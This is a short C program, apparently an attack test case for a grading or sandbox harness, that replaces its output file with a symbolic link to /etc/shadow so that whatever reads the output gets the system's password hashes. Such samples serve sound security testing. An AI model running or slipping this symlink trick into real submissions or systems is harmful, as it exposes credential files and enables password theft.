/* Makes its output file a symbolic link to /etc/shadow. */
#include "attack.h"
int main(void) {
    unlink("output.txt");
    return symlink("/etc/shadow", "output.txt") ? 1 : 0;
}
